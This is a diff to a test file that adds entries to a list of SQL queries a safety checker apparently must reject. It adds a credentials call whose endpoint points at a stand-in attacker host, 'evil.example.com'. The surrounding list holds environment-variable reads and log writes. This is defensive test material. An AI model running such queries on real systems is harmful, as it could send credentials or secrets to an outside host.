@@ -62,6 +62,8 @@ DOES_MORE = (
     "SELECT write_log('x')",
     "SELECT list_transform([1], lambda x: write_log('x'))",
     "SELECT getenv('HOME')",
+    "SELECT rst_credentials('s3://b/', settings := {'endpoint': 'http://evil.example.com'})",
+    "SELECT rasteret_sql.main._rst_credentials('s3://b/', '{}')",
     "SELECT 'HOME'.getenv()",
     "SELECT sum(a) FILTER (WHERE getenv('A') = '') FROM t",
     "SELECT a FROM t ORDER BY getenv('A') LIMIT (SELECT nextval('s'))",
